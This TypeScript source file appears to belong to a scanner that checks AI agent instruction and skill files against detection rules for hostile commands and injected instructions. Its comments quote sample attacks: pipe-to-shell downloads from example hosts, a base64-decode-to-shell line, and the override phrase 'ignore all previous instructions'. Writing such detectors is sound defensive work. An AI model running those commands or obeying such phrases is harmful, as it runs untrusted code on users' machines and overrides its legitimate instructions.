import { findingAt, observe } from "../findings.js";
import { type Anchor, type Anchors, decodeAnchors } from "../rules/anchors.js";
import { type CompiledRule, excepted } from "../rules/compile.js";
import type { TextKind } from "../rules/schema.js";
import { isCodeKind } from "../text/file-kind.js";
import { KeywordIndex, KeywordWindows, lowerForKeywords } from "../text/keywords.js";
import { joinSoftWraps } from "../text/soft-wrap.js";
import type { Finding, TextContext } from "../types.js";
import type { AnalysisContext, TextFile } from "./analysis-context.js";
import { commandUrls, fetchesOpaqueAddress } from "./command-urls.js";
import { hostOf, hostsIn } from "./hosts.js";
import { worstProvenance } from "./provenance.js";

const MAX_MATCHES_PER_RULE_PER_FILE = 20;

export function contextOf(file: TextFile, offset: number): TextContext {
  if (file.bodyOffset !== undefined && offset < file.bodyOffset) return "frontmatter";
  if (file.contextAt) return file.contextAt(offset);
  if (isCodeKind(file.kind)) return "script";
  return "file";
}

/**
 * Runs every rule that applies to the file's kind. The keyword prefilter (literal, case-insensitive)
 * decides whether the regex runs at all, as in gitleaks: most rules never touch most files.
 */
interface RuleIndex {
  keywords: KeywordIndex;
  /** Each rule's anchors (rules/anchors.ts), found by the same pass as the keywords. */
  anchors: Map<CompiledRule, Anchors>;
}

const indexes = new WeakMap<readonly CompiledRule[], RuleIndex>();

function ruleIndex(rules: readonly CompiledRule[]): RuleIndex {
  let index = indexes.get(rules);
  if (!index) {
    const keywords = rules.flatMap((r) => r.keywordsLower);
    const anchors = new Map<CompiledRule, Anchors>();
    for (const r of rules) if (r.anchors) anchors.set(r, decodeAnchors(r.anchors));
    const texts = [...anchors.values()].flatMap((a) =>
      a.flatMap((sets) => sets.flatMap((set) => set.map((x) => x.text))),
    );
    try {
      index = { keywords: new KeywordIndex([...keywords, ...texts]), anchors };
    } catch {
      // More distinct characters than the automaton's alphabet holds: the anchors are an optimisation,
      // the keywords are not.
      index = { keywords: new KeywordIndex(keywords), anchors: new Map() };
    }
    indexes.set(rules, index);
  }
  return index;
}

/** The index each hits map came from: anchors are only looked up in hits that hold them. */
const hitsFrom = new WeakMap<KeywordHits, RuleIndex>();

/** Which rule keywords (and anchors) occur in `lower`, and where (see KeywordIndex.locate). */
export function keywordHits(rules: readonly CompiledRule[], lower: string): KeywordHits {
  const index = ruleIndex(rules);
  const hits = index.keywords.locate(lower);
  hitsFrom.set(hits, index);
  return hits;
}

export type KeywordHits = ReadonlyMap<string, number[] | null>;

const stickies = new WeakMap<CompiledRule, RegExp>();

/** The rule's regex anchored at lastIndex, to confirm a match found in a window cut mid-line. */
function stickyOf(rule: CompiledRule): RegExp {
  let re = stickies.get(rule);
  if (!re) {
    re = new RegExp(rule.regex.source, `${rule.regex.flags.replace(/[gy]/g, "")}y`);
    stickies.set(rule, re);
  }
  return re;
}

export function runRules(
  rules: readonly CompiledRule[],
  file: TextFile,
  lower: string,
  ctx: AnalysisContext,
  kindOverride?: TextKind,
  known?: KeywordHits,
): Finding[] {
  const clock = ctx.clock;
  let hits = known;
  if (!hits) {
    clock?.enter("prefilter");
    hits = keywordHits(rules, lower);
    clock?.leave();
  }
  const out: Finding[] = [];
  const kind = kindOverride ?? file.kind;
  if (hits.size === 0) return out;
  clock?.enter("regex");
  try {
    matchRules(rules, file, ctx, lower, kind, hits, out);
  } finally {
    clock?.leave();
  }
  return out;
}

/**
 * What the instruction rules find only when a prose paragraph's lines are read as one sentence (see
 * text/soft-wrap.ts): a second pass over the joined text, keeping the matches the first pass (`found`,
 * over the file as written) did not report at the same place.
 */
export function acrossSoftWraps(
  rules: readonly CompiledRule[],
  file: TextFile,
  ctx: AnalysisContext,
  found: readonly Finding[],
): Finding[] {
  if (file.kind !== "instructions") return [];
  const joined = joinSoftWraps(file.text, file.bodyOffset ?? 0);
  if (joined === undefined) return [];
  const seen = new Set(found.map((f) => `${f.ruleId}@${f.line}:${f.column}`));
  return runRules(rules, { ...file, text: joined }, lowerForKeywords(joined), ctx).filter(
    (f) => !seen.has(`${f.ruleId}@${f.line}:${f.column}`),
  );
}

function matchRules(
  rules: readonly CompiledRule[],
  file: TextFile,
  ctx: AnalysisContext,
  lower: string,
  kind: TextKind,
  hits: KeywordHits,
  out: Finding[],
): void {
  const windows = new KeywordWindows(file.text, lower, hits, file.lines);
  // Anchor positions are offsets in `lower`: only usable where they are the text's own, and only in
  // hits this rule list's index found (a caller's own map, e.g. "every keyword everywhere", has none).
  const index = ruleIndex(rules);
  const anchorsOf =
    lower.length === file.text.length && hitsFrom.get(hits) === index ? index.anchors : undefined;
  for (const rule of rules) {
    const frontmatterOnly = rule.kinds.has("frontmatter") && rule.kinds.size === 1;
    if (!rule.kinds.has(kind) && !(file.bodyOffset !== undefined && rule.kinds.has("frontmatter"))) continue;
    if (!rule.keywordsLower.some((k) => hits.has(k))) continue;
    const anchors = anchorsOf?.get(rule);
    const present = anchors ? anchorHits(anchors, hits, file.text) : undefined;
    if (present === null) continue;
    const re = rule.regex;
    let count = 0;
    for (const [from, to, cut] of windows.for(
      rule.keywordsLower.filter((k) => hits.has(k)),
      rule.maxLength,
    )) {
      if (present && !present.within(from, to)) continue;
      const part = from === 0 && to === file.text.length ? file.text : file.text.slice(from, to);
      re.lastIndex = 0;
      for (let pm = re.exec(part); pm; pm = re.exec(part)) {
        if (pm[0].length === 0) {
          re.lastIndex++;
          continue;
        }
        let m = { 0: pm[0], index: from + pm.index };
        if (cut) {
          // A window edge inside a line: what matched here must also match there in the whole text.
          const whole = stickyOf(rule);
          whole.lastIndex = m.index;
          const wm = whole.exec(file.text);
          if (!wm || wm[0].length === 0) {
            re.lastIndex = pm.index + 1;
            continue;
          }
          m = { 0: wm[0], index: m.index };
        }
        if (excepted(rule, file.text, m.index)) continue;
        const context = contextOf(file, m.index);
        const inFrontmatter = context === "frontmatter";
        // Frontmatter rules look at frontmatter only; instruction rules at the body only.
        if (inFrontmatter ? !rule.kinds.has("frontmatter") : frontmatterOnly || !rule.kinds.has(kind))
          continue;
        let f = findingAt(rule, {
          file: file.path,
          index: file.lines,
          offset: m.index,
          length: m[0].length,
          context,
        });
        if (rule.whenQuoted !== "keep" && isQuoted(file, m.index, m[0].length, context)) {
          // Quoted, a LOW_QUALITY match has no level to lose: not worth a finding (as `skip` says).
          if (rule.whenQuoted === "skip" || rule.level === "LOW_QUALITY") continue;
          f = observe(f, { seen: "quoted", where: "text" });
        } else if (
          rule.whenQuoted === "keep" &&
          file.kind === "instructions" &&
          (context === "inline-code" || context === "code-block") &&
          NEEDS_REMOTE.has(rule.category) &&
          cannotRunAsWritten(m[0], pipedFrom(file.text, m.index))
        )
          f = observe(f, { seen: "illustration", where: "text" });
        if (rule.allowlistedHostLevel) {
          const origin = fetchesOpaqueAddress(m[0])
            ? undefined
            : (worstProvenance(urlsOf(m[0]), ctx.ruleSet.domains, ctx.skill) ??
              // A setting whose address no link finder reads is judged as one of unknown ownership.
              (rule.unknownHostLevel
                ? { tier: "unknown" as const, host: "", why: "the address it names cannot be read" }
                : undefined));
          // `none`: a vendor's or an operator-allowed host is what the setting is for (provenance
          // counts the operator's list as no vendor, so it is asked here).
          if (rule.allowlistedHostLevel === "none" && (origin?.tier === "official" || allAllowed(m[0], ctx)))
            continue;
          const unknown =
            rule.unknownHostLevel ??
            // Run from a host nobody vouches for: quarantined, one step below anonymous space. Data
            // sent to such a host (exfiltration) keeps the rule's level.
            (rule.category === "download-execute" ? ("SUSPICIOUS" as const) : undefined);
          if (origin)
            f = observe(f, {
              seen: "origin",
              origin,
              official: rule.allowlistedHostLevel === "none" ? "LOW_QUALITY" : rule.allowlistedHostLevel,
              ...(unknown ? { unknown } : {}),
            });
        }
        out.push(f);
        if (++count >= MAX_MATCHES_PER_RULE_PER_FILE) break;
      }
      if (count >= MAX_MATCHES_PER_RULE_PER_FILE) break;
    }
  }
}

const isWordChar = (c: number) =>
  (c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || c === 95;

/** Where a rule's anchors occur in a file. */
interface AnchorPresence {
  /** Whether one branch has an occurrence of each of its sets inside [from, to). */
  within(from: number, to: number): boolean;
}

/** An anchor that occurs in the file: its start offsets (sorted), or null when too many to list. */
interface Occurring {
  anchor: Anchor;
  at: number[] | null;
}

/**
 * The rule's anchors that occur in the file, or null when no branch of the rule has one of each of
 * its sets there (then its regex cannot match anywhere in it). Word boundaries are checked only at the
 * occurrences a window asks about.
 */
function anchorHits(anchors: Anchors, hits: KeywordHits, text: string): AnchorPresence | null {
  const branches: Occurring[][][] = [];
  for (const sets of anchors) {
    const found: Occurring[][] = [];
    for (const set of sets) {
      const here: Occurring[] = [];
      for (const anchor of set) {
        const at = hits.get(anchor.text);
        if (at !== undefined) here.push({ anchor, at });
      }
      if (!here.some((o) => occursIn(o, text, 0, text.length))) break;
      found.push(here);
    }
    if (found.length === sets.length) branches.push(found);
  }
  if (branches.length === 0) return null;
  return {
    within: (from, to) =>
      branches.some((sets) => sets.every((set) => set.some((o) => occursIn(o, text, from, to)))),
  };
}

/** Whether the anchor occurs inside [from, to) with its word boundaries (null positions: everywhere). */
function occursIn(o: Occurring, text: string, from: number, to: number): boolean {
  const { at, anchor } = o;
  if (at === null) return true;
  const len = anchor.text.length;
  let lo = 0;
  let hi = at.length;
  while (lo < hi) {
    const mid = (lo + hi) >> 1;
    if (at[mid]! < from) lo = mid + 1;
    else hi = mid;
  }
  for (let i = lo; i < at.length; i++) {
    const p = at[i]!;
    const end = p + len;
    if (end > to) return false;
    if (anchor.wordStart && p > 0 && isWordChar(text.charCodeAt(p - 1))) continue;
    if (anchor.wordEnd && end < text.length && isWordChar(text.charCodeAt(end))) continue;
    return true;
  }
  return false;
}

/**
 * The addresses in a match, also one written straight after `=` or `:` (`PIP_INDEX_URL=https://…`,
 * `registry=https://…`), which a link finder does not take for the start of a URL.
 */
function urlsOf(text: string): string[] {
  return commandUrls(text.replace(/([=:,])(?=https?:\/\/)/gi, "$1 "));
}

/** Every address the match fetches from or names is on the operator's or the built-in allow list. */
function allAllowed(text: string, ctx: AnalysisContext): boolean {
  const hosts = urlsOf(text).map((u) => hostOf(u));
  return hosts.length > 0 && hosts.every((h) => h !== undefined && ctx.isAllowedHost(h));
}

/** Techniques that need a server or a payload to do harm: without a real one they cannot run. */
const NEEDS_REMOTE = new Set(["download-execute", "obfuscation", "exfiltration", "remote-access"]);
const PLACEHOLDER = /\.\.\.|\u2026|<[A-Za-z][\w .-]{0,30}>|\$\{?[A-Z_]*URL\}?/;

/**
 * Security guides and auditing skills quote attacks as examples: `curl https://example.com/x.sh |
 * bash`, `echo ... | base64 -d | sh`. Such a command cannot do harm as written: every host in it is an
 * RFC 2606 example domain (example.com/.net/.org; the `.example` and `.invalid` names are not
 * counted, as defanged samples use them in place of real servers), or it has no host and holds a
 * placeholder where the payload or address would be.
 */
export function cannotRunAsWritten(text: string, input: string): boolean {
  const hosts = hostsIn(text);
  if (hosts.length > 0)
    // target.com / victim.com: security guides' names for the system under test. Whoever owns them,
    // it is not the skill's author: nothing can be served from or collected there by them.
    return hosts.every(
      (h) => /(^|\.)(?:example|target|victim)\.(com|net|org)$/.test(h) || /[{}$<>%]/.test(h),
    );
  return PLACEHOLDER.test(text) || PIPED_PLACEHOLDER.test(input);
}

/** `echo ... | base64 -d | sh`: the input piped into the match is a placeholder. */
const PIPED_PLACEHOLDER = /(?:\.\.\.|\u2026|<[A-Za-z][\w .-]{0,30}>)["']?[ \t]*\|[ \t]*$/;

/** The text before `offset` on its line, back to an opening backtick (at most 200 characters). */
function pipedFrom(text: string, offset: number): string {
  const from = Math.max(0, offset - 200, text.lastIndexOf("\n", offset - 1) + 1);
  const before = text.slice(from, offset);
  return before.slice(before.lastIndexOf("`") + 1);
}

const OPEN_QUOTES = new Set(['"', "'", "\u201C", "\u2018", "\u00AB", "`"]);

/** A match in Markdown code, or wrapped in quotation marks in prose, is quoted text rather than an order. */
function isQuoted(file: TextFile, offset: number, length: number, context: TextContext): boolean {
  // YAML quoting is syntax, not quotation: `description: "… ignore all previous instructions …"` is
  // read by the agent exactly as the unquoted value would be.
  if (file.kind !== "instructions" || context === "frontmatter") return false;
  if (context === "code-block" || context === "inline-code") return true;
  const before = file.text.slice(Math.max(0, offset - 3), offset);
  const after = file.text.slice(offset + length, offset + length + 3);
  if ([...before].some((c) => OPEN_QUOTES.has(c)) && /["'\u201D\u2019\u00BB`]/.test(after)) return true;
  return insideQuotation(file.text, offset, offset + length);
}

/**
 * Whether [start, end) lies inside one "…" or “…” quotation on its line: an odd number of straight
 * double quotes (or an unclosed “) before it, and the closing one after it, at most 300 characters
 * away on either side. Single quotes are left out: apostrophes make them ambiguous.
 */
function insideQuotation(text: string, start: number, end: number): boolean {
  const lineStart = text.lastIndexOf("\n", start - 1) + 1;
  let lineEnd = text.indexOf("\n", end);
  if (lineEnd === -1) lineEnd = text.length;
  if (start - lineStart > 300 || lineEnd - end > 300) return false;
  const head = text.slice(lineStart, start);
  const tail = text.slice(end, lineEnd);
  const straight = (head.match(/"/g) ?? []).length;
  if (straight % 2 === 1 && tail.includes('"')) return true;
  return head.lastIndexOf("\u201C") > head.lastIndexOf("\u201D") && tail.includes("\u201D");
}
